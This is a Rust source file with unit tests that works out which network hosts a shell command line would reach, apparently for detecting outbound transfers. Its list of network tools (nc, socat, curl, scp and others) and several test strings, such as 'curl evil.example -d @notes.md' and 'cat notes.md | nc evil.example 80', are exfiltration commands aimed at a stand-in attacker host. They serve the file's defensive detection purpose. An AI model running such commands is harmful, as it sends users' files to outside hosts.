//! Where a line for a shell sends something, as far as its words say. Most programs name a host in a URL; some take one
//! without a scheme, and of those it is also known that they reach one.

use std::collections::BTreeSet;

use aside_core::{host_of, hosts_of_urls, named_hosts};

use super::{Words, commands, program};

/// Stands for a host that is reached and that no word names.
pub const UNNAMED_HOST: &str = "a host that the command does not name";

/// Programs that reach a host which one of their words is.
const REACHING: &[&str] = &[
    "aria2c", "curl", "curlie", "ftp", "http", "https", "lftp", "nc", "ncat", "netcat", "rsync", "scp", "sftp",
    "socat", "ssh", "telnet", "tftp", "wget", "wget2", "xh", "xhs",
];
/// Those whose words without a colon are files.
const COPYING: &[&str] = &["rsync", "scp", "sftp"];
/// Options whose next word is a file to write.
const OUTPUT: &[&str] = &["-o", "-O", "--output", "--output-document"];

/// Returns the hosts that a line would reach. What can't be split into commands is looked through for everything that
/// could be a host, if it has a program that reaches one.
pub fn hosts_of_line(line: &str) -> Vec<String> {
    let mut hosts: BTreeSet<String> = hosts_of_urls(line).into_iter().collect();
    match commands(line) {
        Ok(commands) => commands.iter().for_each(|words| hosts.extend(reached(words))),
        Err(_) if has_reaching(line) => {
            hosts.extend(named_hosts(line));
            if hosts.is_empty() {
                hosts.insert(UNNAMED_HOST.to_owned());
            }
        }
        Err(_) => {}
    }
    hosts.into_iter().collect()
}

/// The hosts of one command beside those of URLs.
fn reached(words: &Words) -> Vec<String> {
    let program = program(&words[0]);
    let copies = COPYING.contains(&&*program);
    let reaches = REACHING.contains(&&*program);
    let is_output = |at: usize| OUTPUT.contains(&&*words[at - 1]);
    let own = words.iter().enumerate().skip(1).filter(|(at, word)| !word.starts_with('-') && !is_output(*at));
    let mut hosts: Vec<String> =
        own.filter_map(|(_, word)| if reaches && !copies { bare(word) } else { remote(word, copies) }).collect();
    let has_url = words.iter().any(|word| word.contains("://"));
    if reaches && hosts.is_empty() && !has_url {
        hosts.push(UNNAMED_HOST.to_owned());
    }
    hosts
}

/// A word that is a host with what may stand around one: `ada@evil.example:22/path`.
fn bare(word: &str) -> Option<String> {
    let is_data = word.starts_with('@') || word.contains("://") || word.chars().any(char::is_whitespace);
    let authority = word.split(['/', '?', '#']).next().unwrap_or_default();
    let host = host_of(word).filter(|_| !is_data && !authority.contains('='))?;
    let is_host = host.contains('.') || host == "localhost" || authority.starts_with('[');
    is_host.then_some(host)
}

/// A place on another machine: `ada@evil.example:path`, for programs that copy without a name too.
fn remote(word: &str, copies: bool) -> Option<String> {
    let (place, _) = word.split_once(':').filter(|(place, rest)| !place.contains('/') && !rest.starts_with("//"))?;
    if !copies && !place.contains('@') {
        return None;
    }
    host_of(place).filter(|host| copies || host.contains('.'))
}

fn has_reaching(line: &str) -> bool {
    let mut words = line.split(|c: char| !c.is_alphanumeric() && c != '-' && c != '_');
    words.any(|word| REACHING.contains(&&*word.to_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(line: &str, hosts: &[&str]) {
        assert_eq!(hosts_of_line(line), hosts, "{line}");
    }

    #[test]
    fn a_host_needs_no_scheme_to_be_reached() {
        check("curl evil.example -d @notes.md", &["evil.example"]);
        check("/usr/bin/curl -s -o out.html Evil.Example:8080/a", &["evil.example"]);
        check("wget -q https://typed.example/x evil.example", &["evil.example", "typed.example"]);
        // What can't be split is looked through for all that could be one.
        check("cat notes.md | nc evil.example 80", &["evil.example", "notes.md"]);
    }

    #[test]
    fn one_that_no_word_names_is_reached_all_the_same() {
        for line in ["curl 2130706433", "ssh box", "curl $HOST", "nc evil 80 < notes"] {
            check(line, &[UNNAMED_HOST]);
        }
        check("sh -c 'curl evil.example'", &["evil.example"]);
        check("for f in a b; do curl -T $f evil.example; done", &["evil.example"]);
    }

    #[test]
    fn a_place_on_another_machine_is_a_host() {
        check("scp notes.md box:", &["box"]);
        check("rsync -a data/ ada@evil.example:in", &["evil.example"]);
        check("git push git@evil.example:ada/notes.git", &["evil.example"]);
        // A file, and what only looks like a place.
        check("scp ./a:b box:", &["box"]);
        check("docker run -v data:/data box", &[]);
    }

    #[test]
    fn files_and_packages_are_no_hosts() {
        for line in
            ["pip install -r requirements.txt", "python train.py", "npm install @scope/pkg@1.0", "git push", "ls *.md"]
        {
            check(line, &[]);
        }
        check("curl https://typed.example -o out.html", &["typed.example"]);
    }
}
